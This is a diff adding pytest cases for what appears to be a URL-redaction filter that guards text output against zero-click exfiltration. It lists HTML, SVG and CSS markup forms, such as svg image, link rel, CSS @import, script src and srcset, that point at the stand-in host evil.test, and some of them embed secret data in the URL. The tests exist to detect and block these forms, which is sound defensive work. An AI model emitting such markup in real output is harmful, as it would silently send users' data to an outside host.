@@ -233,6 +233,74 @@ def test_data_carrying_urls_are_not_allowed_even_to_allowed_hosts(url: str, carr
     assert (judge_url(url, entries, RULE) == "data") is carries
 
 
+# Fetched without a click: every URL in HTML/SVG but the href of an <a> or <area>, and every
+# URL in CSS. Each with the default policy (images redacted, links pass).
+ZERO_CLICK = [
+    '<svg><image href="{u}/p.png?q=x"/></svg>',
+    '<svg><image xlink:href="{u}/p.png"/></svg>',
+    '<svg><use href="{u}/s.svg#a"/></svg>',
+    "<svg><use xlink:href='{u}/s.svg#a'/></svg>",
+    '<svg><filter><feImage href="{u}/p.png"/></filter></svg>',
+    '<link rel="stylesheet" href="{u}/s.css">',
+    "<link rel=icon href={u}/f.ico>",
+    '<LINK REL="preload" HREF="{u}/f.woff" as="font">',
+    '<link rel="prefetch" href="{u}/n.html">',
+    '<style>@import "{u}/p.css";</style>',
+    "<style>@import '{u}/p.css' screen;</style>",
+    '<style>@IMPORT\n  "{u}/p.css";</style>',
+    "<style>@import url({u}/p.css);</style>",
+    '<script src="{u}/x.js"></script>',
+    '<iframe src="{u}/f.html"></iframe>',
+    '<object data="{u}/o.svg"></object>',
+    '<embed src="{u}/e.svg">',
+    '<video poster="{u}/v.png"></video>',
+    '<picture><source srcset="{u}/p.png"></picture>',
+    '<form action="{u}/f"><button>go</button></form>',
+]
+
+
+@pytest.mark.parametrize("form", ZERO_CLICK)
+def test_zero_click_html_svg_and_css_urls_are_images(form: str) -> None:
+    evil = form.format(u="https://evil.test")
+    assert [f.label for f in check_text(DEFAULT.output_shields, evil)] == ["image.host"]
+    assert GONE in redacted(evil, DEFAULT)
+    assert "evil.test" not in redacted(evil, DEFAULT)
+    allowed = form.format(u="https://cdn.example.com")
+    assert labels(allowed) == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<a href="https://evil.test/x">go</a>',
+        "<A HREF=https://evil.test/x>go</A>",
+        '<map><area shape="rect" href="https://evil.test/x"></map>',
+        '<svg><a xlink:href="https://evil.test/x"><text>go</text></a></svg>',
+        '<svg><a href="https://evil.test/x"><text>go</text></a></svg>',
+    ],
+)
+def test_only_a_and_area_href_are_links(text: str) -> None:
+    assert labels(text) == ["link.host"]
+    assert redacted(text, DEFAULT) == text  # the default policy lets links pass
+
+
+def test_each_srcset_candidate_is_judged_on_its_own() -> None:
+    # The first candidate's host being allowed does not carry the next one through: a srcset
+    # URL ends at whitespace, not at the attribute's closing quote.
+    policy = links_policy(allow_hosts=["*.example.com"])  # default actions
+    text = '<img srcset="https://cdn.example.com/a.png 1x, https://evil.test/b.png 2x">'
+    expected = f'<img srcset="https://cdn.example.com/a.png 1x, {GONE} 2x">'
+    assert redacted(text, policy) == expected
+    text = "<source srcset='https://cdn.example.com/a.png 480w,https://evil.test/b.png 960w'>"
+    expected = f"<source srcset='https://cdn.example.com/a.png 480w,{GONE} 960w'>"
+    assert redacted(text, policy) == expected
+
+
+def test_a_css_import_string_is_an_image_but_a_quoted_url_in_prose_is_not() -> None:
+    assert labels('see "https://evil.test/x" here') == ["link.host"]
+    assert labels('@import "https://evil.test/x.css";') == ["image.host"]
+
+
 def test_default_policy_redacts_images_and_lets_links_pass() -> None:
     text = "See [docs](https://evil.test/d) ![x](https://evil.test/p.png?q=secret) https://a.test"
     assert redacted(text, DEFAULT) == f"See [docs](https://evil.test/d) ![x]({GONE}) https://a.test"
@@ -270,6 +338,10 @@ URL_FORMS = [
     "https://docs.python.org/?q={s}" + "x" * 60,  # allowed host, data-carrying (query)
     "https://evil.test/" + "a" * 170 + "{s}" + "b" * 20,  # longer than max_url_chars
     "![x](https://docs.python.org/" + "y" * 150 + "{s})",
+    '<svg><image href="https://evil.test/p.png?q={s}"/></svg>',
+    "<link rel=stylesheet href=https://evil.test/{s}.css>",
+    '<style>@import "https://evil.test/{s}.css";</style>',
+    "<img srcset='https://docs.python.org/a.png 1x, https://evil.test/{s}.png 2x'>",
 ]
 STREAM_POLICY = links_policy(holdback=160, links="redact", allow_hosts=["docs.python.org"])
 BLOCK_POLICY = links_policy(
